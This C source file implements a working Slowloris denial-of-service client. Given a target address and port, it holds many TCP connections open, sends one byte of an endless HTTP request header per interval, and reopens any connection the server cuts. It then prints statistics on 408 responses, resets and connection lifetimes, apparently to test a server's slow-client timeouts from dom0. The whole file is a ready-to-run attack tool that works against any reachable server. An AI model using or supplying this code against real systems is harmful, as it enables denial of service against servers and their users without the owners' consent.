/* slowloris A.B.C.D PORT CONNS INTERVAL_S SECS: the slow-client attack, in dom0. Keeps CONNS
 * TCP connections to A.B.C.D:PORT open for SECS seconds, each sending one byte of a request head
 * that never ends ("GET / HTTP/1.1\r\nHost: x\r\nX-Slow: aaaa...") every INTERVAL_S seconds.
 * A connection the server ends is reopened at once (an attacker keeps the pressure on). At the
 * end prints one line:
 *   slowloris: opened=N cut=M got408=K reset=R open=O min_s=.. median_s=.. max_s=..
 *              max_reset_s=.. bytes=B
 * where cut = connections the server ended (got408: it answered 408 first, reset: by RST or
 * without an answer), min/median/max are the lifetimes of the cut ones that got 408 (from
 * connect to the server's close) and max_reset_s the longest life of a reset one, in seconds
 * with one decimal. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/resource.h>
#include <time.h>
#include <unistd.h>

static const char HEAD[] = "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ";

struct conn {
    int fd;
    double opened, next;
    size_t sent;
    int got408;
};

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static struct sockaddr_in dst;
static long opened, cut, got408, reset, bytes;
static double *life;
static long nlife, caplife;
static double max_reset;

static void open_one(struct conn *c, double t, double interval, int i, int n) {
    c->fd = socket(AF_INET, SOCK_STREAM, 0);
    if (c->fd < 0) { perror("slowloris: socket"); exit(1); }
    fcntl(c->fd, F_SETFL, O_NONBLOCK);
    if (connect(c->fd, (struct sockaddr *)&dst, sizeof dst) < 0 && errno != EINPROGRESS) {
        close(c->fd);
        c->fd = -1;
        return;
    }
    opened++;
    c->opened = t;
    /* Spread the first bytes over one interval. */
    c->next = t + interval * i / n;
    c->sent = 0;
    c->got408 = 0;
}

static void ended(struct conn *c, double t) {
    cut++;
    if (c->got408) {
        got408++;
        if (nlife == caplife) {
            caplife = caplife ? caplife * 2 : 1024;
            life = realloc(life, caplife * sizeof *life);
        }
        life[nlife++] = t - c->opened;
    } else {
        reset++;
        if (t - c->opened > max_reset) max_reset = t - c->opened;
    }
    close(c->fd);
    c->fd = -1;
}

static int cmp(const void *a, const void *b) {
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

int main(int argc, char **argv) {
    if (argc != 6) {
        fprintf(stderr, "usage: slowloris A.B.C.D PORT CONNS INTERVAL_S SECS\n");
        return 1;
    }
    dst.sin_family = AF_INET;
    dst.sin_port = htons(atoi(argv[2]));
    if (!inet_aton(argv[1], &dst.sin_addr)) { fprintf(stderr, "slowloris: bad address\n"); return 1; }
    int n = atoi(argv[3]);
    double interval = atof(argv[4]);
    double end = now() + atof(argv[5]);
    struct rlimit rl = { n + 64, n + 64 };
    setrlimit(RLIMIT_NOFILE, &rl);
    struct conn *cs = calloc(n, sizeof *cs);
    struct pollfd *pfd = calloc(n, sizeof *pfd);
    double t = now();
    for (int i = 0; i < n; i++) open_one(&cs[i], t, interval, i, n);
    while ((t = now()) < end) {
        for (int i = 0; i < n; i++) {
            struct conn *c = &cs[i];
            if (c->fd < 0) { open_one(c, t, interval, 0, 1); continue; }
            if (t >= c->next) {
                char b = c->sent < sizeof HEAD - 1 ? HEAD[c->sent] : 'a';
                ssize_t w = send(c->fd, &b, 1, MSG_NOSIGNAL);
                if (w == 1) { c->sent++; bytes++; }
                else if (w < 0 && errno != EAGAIN && errno != ENOTCONN) { ended(c, t); continue; }
                c->next = t + interval;
            }
        }
        for (int i = 0; i < n; i++) {
            pfd[i].fd = cs[i].fd;
            pfd[i].events = POLLIN;
            pfd[i].revents = 0;
        }
        poll(pfd, n, 100);
        t = now();
        for (int i = 0; i < n; i++) {
            struct conn *c = &cs[i];
            if (c->fd < 0 || !(pfd[i].revents & (POLLIN | POLLHUP | POLLERR))) continue;
            char buf[512];
            ssize_t r = recv(c->fd, buf, sizeof buf - 1, 0);
            if (r > 0) {
                buf[r] = 0;
                if (strstr(buf, " 408 ")) c->got408 = 1;
                continue; /* the close follows */
            }
            if (r == 0 || (errno != EAGAIN && errno != EINTR)) ended(c, t);
        }
    }
    long still = 0;
    for (int i = 0; i < n; i++) if (cs[i].fd >= 0) still++;
    qsort(life, nlife, sizeof *life, cmp);
    printf("slowloris: opened=%ld cut=%ld got408=%ld reset=%ld open=%ld min_s=%.1f median_s=%.1f "
           "max_s=%.1f max_reset_s=%.1f bytes=%ld\n",
           opened, cut, got408, reset, still, nlife ? life[0] : 0.0,
           nlife ? life[nlife / 2] : 0.0, nlife ? life[nlife - 1] : 0.0, max_reset, bytes);
    return 0;
}
